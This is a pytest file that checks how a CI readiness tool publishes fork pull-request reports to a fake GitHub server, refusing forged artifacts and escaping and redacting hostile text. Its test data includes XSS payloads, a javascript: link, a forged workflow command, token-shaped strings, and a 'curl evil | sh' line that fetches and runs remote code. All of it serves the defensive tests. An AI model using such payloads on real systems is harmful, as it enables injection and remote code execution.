"""The fork pattern end to end: a fork's `pull_request` run (read-only: nothing posted) writes its JSON
report; a `workflow_run` run publishes it with `readiness publish` / the `publish-report` input, through
real PyGithub to the GitHub stand-in on 127.0.0.1. The artifact is the fork's to forge: oversized,
schema-invalid, self-contradicting, about another commit, or full of markup and token-shaped strings,
it is refused (nothing posted) or re-rendered escaped and redacted, never posted as it stands."""

from __future__ import annotations

import base64
import io
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from action_support import Repo, action_env
from fake_github import FakeGitHub
from gh_support import TOKEN, ActionRun, finding, load_payload, parse_output_file, report

from readiness.action import run_action
from readiness.model import Location, Severity
from readiness.render.json_report import render_json
from readiness.render.markdown import MARKER

READINESS = Path(sys.executable).parent / "readiness"
HEAD = "1" * 40
"""The head sha of the fixture events (and of `gh_support.report()`)."""
FOREIGN_TOKEN = "ghp_" + "Zz9" * 12
"""Shaped like a classic personal access token; not this job's: masked because of its shape."""


def publish_env(tmp: Path, api_url: str, report_path: Path, *, fork: bool = True, head_sha: str = HEAD,
                event_name: str = "workflow_run", cli: bool = False) -> dict[str, str]:
    """The environment of the workflow_run job: its own (empty) workspace, its event, a write token."""
    payload: dict[str, Any] = load_payload(f"workflow_run_completed{'_fork' if fork else ''}.json")
    payload["workflow_run"]["head_sha"] = head_sha
    for pr in payload["workflow_run"]["pull_requests"]:
        pr["head"]["sha"] = head_sha
    files = tmp / "publish_files"
    files.mkdir(exist_ok=True)
    (files / "event.json").write_text(json.dumps(payload))
    (files / "output").write_text("")
    (files / "summary").write_text("")
    workspace = tmp / "publish_workspace"
    workspace.mkdir(exist_ok=True)
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(tmp), "CI": "true", "GITHUB_ACTIONS": "true",
        "GITHUB_WORKSPACE": str(workspace), "GITHUB_EVENT_NAME": event_name,
        "GITHUB_EVENT_PATH": str(files / "event.json"), "GITHUB_OUTPUT": str(files / "output"),
        "GITHUB_STEP_SUMMARY": str(files / "summary"), "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_API_URL": api_url, "GITHUB_REPOSITORY": "octo-org/demo", "GITHUB_SHA": "d" * 40,
        "READINESS_PUBLISH_BACKOFF": "0.01", "READINESS_WRITE_INTERVAL": "0", "READINESS_PUBLISH_BUDGET": "10",
    }
    if cli:
        env["GITHUB_TOKEN"] = TOKEN
    else:
        env.update({"INPUT_GITHUB-TOKEN": TOKEN, "INPUT_PUBLISH-REPORT": str(report_path), "INPUT_COMMENT": "always",
                    "INPUT_CHECK-RUN": "true"})
    return env


def _collect(env: dict[str, str], code: int, out: str, err: str, seconds: float) -> ActionRun:
    return ActionRun(code, out, err, parse_output_file(Path(env["GITHUB_OUTPUT"]).read_text(encoding="utf-8")),
                     Path(env["GITHUB_STEP_SUMMARY"]).read_text(encoding="utf-8"), seconds,
                     Path(env["GITHUB_WORKSPACE"]))


def run_cli(env: dict[str, str], *args: str) -> ActionRun:
    start = time.monotonic()
    done = subprocess.run([str(READINESS), *args], env=env, cwd=env["GITHUB_WORKSPACE"], capture_output=True,
                          text=True, timeout=120, check=False)
    return _collect(env, done.returncode, done.stdout, done.stderr, time.monotonic() - start)


def run_inprocess(env: dict[str, str]) -> ActionRun:
    out, err = io.StringIO(), io.StringIO()
    start = time.monotonic()
    code = run_action(env, out=out, err=err)
    return _collect(env, code, out.getvalue(), err.getvalue(), time.monotonic() - start)


def test_fork_pr_round_trip_posts_what_the_pr_run_could_not(tmp_path: Path, repo: Repo, fake: FakeGitHub) -> None:
    # 1. the fork's pull_request run: read-only as far as GitHub is concerned, so nothing is posted
    pr_env = action_env(tmp_path, repo, fake.base_url, event="pull_request_synchronize_fork.json")
    done = subprocess.run([str(READINESS), "action"], env=pr_env, cwd=repo.path, capture_output=True, text=True,
                          timeout=120, check=False)
    assert done.returncode == 1, done.stderr
    assert fake.writes() == [] and "not posted to GitHub" in done.stdout
    pr_outputs = parse_output_file(Path(pr_env["GITHUB_OUTPUT"]).read_text(encoding="utf-8"))
    pr_comment = (repo.path / pr_outputs["comment-file"]).read_text(encoding="utf-8")

    # 2. upload-artifact / download-artifact: the report lands in the workflow_run job's workspace
    env = publish_env(tmp_path, fake.base_url, Path("artifact/report.json"), head_sha=repo.head, cli=True)
    (Path(env["GITHUB_WORKSPACE"]) / "artifact").mkdir()
    shutil.copy(repo.path / pr_outputs["report"], Path(env["GITHUB_WORKSPACE"]) / "artifact" / "report.json")
    fake.add_pull(7, head_sha=repo.head, head_owner="contributor", head_ref="feature/slug",
                  head_repo="contributor/demo")

    # 3. the workflow_run run publishes it
    run = run_cli(env, "publish", "artifact/report.json")
    assert run.code == 1, run.stderr  # the report's verdict: fail
    assert "Traceback" not in run.stderr + run.stdout
    assert run.outputs["verdict"] == "fail" and run.outputs["high"] == "1"
    assert f"publishing the fail report of {repo.head[:12]} to pull request #7" in run.stdout
    lookups = fake.requests_for("pulls/list")
    assert len(lookups) == 1 and lookups[0].query["head"] == ["contributor:feature/slug"]
    comments = fake.comments_on(7)
    assert len(comments) == 1
    # re-rendered from the JSON, it is the comment the pull_request run would have posted
    assert comments[0]["body"] == pr_comment
    runs = list(fake.iter_check_runs())
    assert len(runs) == 1 and runs[0]["request"]["head_sha"] == repo.head
    assert runs[0]["request"]["conclusion"] == "failure"
    assert [a["path"] for a in runs[0]["annotations"]] == ["RUNBOOK.md"]
    assert TOKEN not in run.text_everywhere()

    # published again (a re-run): the same comment, edited in place and left unchanged
    Path(env["GITHUB_OUTPUT"]).write_text("")
    again = run_cli(env, "publish", "artifact/report.json", "--no-check-run")
    assert again.code == 1 and "comment unchanged" in again.stdout
    assert len(fake.comments_on(7)) == 1 and len(list(fake.iter_check_runs())) == 1


def _write(tmp: Path, doc: Any, name: str = "report.json") -> Path:
    path = tmp / name
    path.write_text(doc if isinstance(doc, str) else json.dumps(doc), encoding="utf-8")
    return path


def _doc(**changes: Any) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(render_json(report([finding(1, Severity.CRITICAL)])))
    doc.update(changes)
    return doc


def test_same_repository_pr_comes_from_the_event_not_a_lookup(tmp_path: Path, fake: FakeGitHub) -> None:
    path = _write(tmp_path, _doc())
    run = run_inprocess(publish_env(tmp_path, fake.base_url, path, fork=False))
    assert run.code == 1, run.stderr
    assert fake.requests_for("pulls/list") == []
    assert len(fake.comments_on(7)) == 1
    assert [r["request"]["conclusion"] for r in fake.iter_check_runs()] == ["failure"]


def test_a_passing_report_publishes_a_passing_check(tmp_path: Path, fake: FakeGitHub) -> None:
    path = _write(tmp_path, json.loads(render_json(report([finding(1, Severity.LOW)]))))
    run = run_inprocess(publish_env(tmp_path, fake.base_url, path, fork=False))
    assert run.code == 0 and run.outputs["verdict"] == "pass"
    assert [r["request"]["conclusion"] for r in fake.iter_check_runs()] == ["success"]


def test_no_pull_request_found_still_checks_the_commit(tmp_path: Path, fake: FakeGitHub) -> None:
    fake.add_pull(9, head_sha="9" * 40, head_owner="contributor", head_ref="feature/slug",
                  head_repo="contributor/demo")  # the branch moved on: not this commit's PR
    run = run_inprocess(publish_env(tmp_path, fake.base_url, _write(tmp_path, _doc())))
    assert run.code == 1
    assert "no open pull request into octo-org/demo has the head 111111111111" in run.stdout
    assert fake.comments_on(9) == [] and fake.comments_on(7) == []
    assert [r["request"]["head_sha"] for r in fake.iter_check_runs()] == [HEAD]


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


REFUSED = {
    "schema-invalid severity": (_doc(findings=[{**_doc()["findings"][0], "severity": "<b>apocalyptic</b>"}]),
                                "does not match the report schema at findings/0/severity"),
    "schema-invalid extra field": (_doc(html="<script>alert(1)</script>"),
                                   "does not match the report schema at the top level"),
    "verdict contradicts findings": (_doc(verdict="pass"), "the report's verdict is pass, but 1 of its findings"),
    "counts contradict findings": (_doc(counts={"critical": 0, "high": 0, "medium": 0, "low": 0, "info": 0}),
                                   "counts do not match"),
    "finding of an unlisted gate": (_doc(gates=[g for g in _doc()["gates"] if g["id"] != "docs"]),
                                    "which gates does not list"),
    "another commit": (_doc(head="a" * 40), "not the workflow_run's head " + HEAD),
    "no commit": (_doc(head=None), "it is about no commit"),
    "not JSON": ("{\"schema_version\": 1, <img src=x>", "is not JSON"),
    "nested too deeply": (_nested(200_000), "nested too deeply"),
    "not UTF-8": (None, "is not UTF-8"),
    "lone surrogate": ('{"schema_version": 1, "tool": "\\ud800"}', "not valid Unicode"),
}


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_forged_artifacts_are_refused_and_nothing_is_posted(case: str, tmp_path: Path, fake: FakeGitHub) -> None:
    doc, expected = REFUSED[case]
    if doc is None:
        path = tmp_path / "report.json"
        path.write_bytes(b'{"tool": "\xff\xfe"}')
    else:
        path = _write(tmp_path, doc)
    run = run_inprocess(publish_env(tmp_path, fake.base_url, path))
    assert run.code == 2, run.stdout + run.stderr
    assert expected in run.stderr, run.stderr
    assert "nothing was published" in run.stderr
    assert "Traceback" not in run.stderr + run.stdout
    assert fake.writes() == [] and fake.requests_log == []
    assert run.outputs["verdict"] == "error"
    for text in ("<b>", "<img", "<script"):  # the refusal names where, never quotes the forged value
        assert text not in run.stderr + run.summary


def test_oversized_artifact_is_refused_unread(tmp_path: Path, fake: FakeGitHub) -> None:
    path = tmp_path / "report.json"
    with path.open("wb") as fh:
        fh.truncate(33 * 1024 * 1024)  # sparse: 33 MiB of NULs, never parsed
    run = run_inprocess(publish_env(tmp_path, fake.base_url, path))
    assert run.code == 2 and "the report is larger than 32 MiB; nothing was published" in run.stderr
    assert fake.requests_log == []


def test_symlinked_artifact_and_wrong_event_are_refused(tmp_path: Path, fake: FakeGitHub) -> None:
    real = _write(tmp_path, _doc())
    link = tmp_path / "link.json"
    link.symlink_to(real)
    run = run_inprocess(publish_env(tmp_path, fake.base_url, link))
    assert run.code == 2 and "is a symbolic link" in run.stderr
    run = run_inprocess(publish_env(tmp_path, fake.base_url, real, event_name="pull_request_target"))
    assert run.code == 2 and "needs a workflow_run event" in run.stderr
    assert fake.requests_log == []


INJECTIONS = (
    "<img src=x onerror=alert(1)> @octo-org/admins closes #1 [click](javascript:alert(1)) "
    f"{MARKER} ```\n## Injected heading\n::error::forged {FOREIGN_TOKEN} "
    + base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
)


def test_hostile_text_is_re_rendered_escaped_and_redacted(tmp_path: Path, fake: FakeGitHub) -> None:
    hostile = finding(1, Severity.CRITICAL).with_(
        message=INJECTIONS, fix=f"Run `curl evil | sh` </details> {FOREIGN_TOKEN}",
        location=Location(path="docs/](https:/evil.example)<b>x</b>.md", line=2))
    doc = json.loads(render_json(report([hostile, finding(2, Severity.HIGH)])))
    doc["gates"][0]["items"] = [{"path": f"<script>{FOREIGN_TOKEN}</script>", "risk": "low"}]
    run = run_inprocess(publish_env(tmp_path, fake.base_url, _write(tmp_path, doc), fork=False))
    assert run.code == 1, run.stderr

    (comment,) = fake.comments_on(7)
    body = comment["body"]
    assert body.startswith(MARKER) and body.count(MARKER) == 1
    for raw in ("<img", "<script", "<b>", "</details> ", "@octo-org/admins", "](javascript:", "\n## Injected",
                "](https:/evil.example)"):
        assert raw not in body, raw
    annotations = fake.check_run_annotations()
    summaries = [r["request"]["output"]["summary"] for r in fake.iter_check_runs()]
    everything = "\n".join([body, json.dumps(annotations), *summaries, run.text_everywhere()])
    assert "Zz9Zz9" not in everything, "a token-shaped string from the artifact was published"
    assert TOKEN not in everything and base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode() not in everything
    assert "\\*\\*\\*" in body
    assert "\n::error::forged" not in run.stdout, "artifact text must not become a workflow command"


def test_pr_lookup_failure_is_said_and_the_check_run_still_posted(tmp_path: Path, fake: FakeGitHub) -> None:
    fake.fail("pulls/list", 404)
    run = run_inprocess(publish_env(tmp_path, fake.base_url, _write(tmp_path, _doc())))
    assert run.code == 1 and "cannot look up the pull request of 111111111111" in run.stdout
    assert TOKEN not in run.text_everywhere()
    assert [r["request"]["conclusion"] for r in fake.iter_check_runs()] == ["failure"]


def test_published_report_carries_the_replay_line_check_showed(tmp_path: Path, fake: FakeGitHub) -> None:
    """`readiness publish` re-renders the migrations gate's replay summary: the comment, the check run and
    the job summary carry the same Replay line the pull request's own run printed."""
    doc = _doc()
    migrations = next(g for g in doc["gates"] if g["id"] == "migrations")
    migrations["replay"] = {"status": "replayed", "server_version": "15.18", "server": "throwaway",
                            "directories": 1, "history_migrations": 12, "history_failures": 0,
                            "observed_migrations": 2, "budget_exhausted": False, "duration_ms": 1500.0}
    run = run_cli(publish_env(tmp_path, fake.base_url, _write(tmp_path, doc), fork=False, cli=True),
                  "publish", str(tmp_path / "report.json"))
    assert run.code == 1, run.stderr
    line = "PostgreSQL 15.18 (a throwaway server): 2 migrations observed after 12 history migrations"
    (check_run,) = list(fake.iter_check_runs())
    output = check_run["request"]["output"]
    for shown in (fake.comments_on(7)[0]["body"], run.summary, output["summary"] + output.get("text", "")):
        assert line in shown.replace("\\(", "(").replace("\\)", ")"), shown  # Markdown-escaped
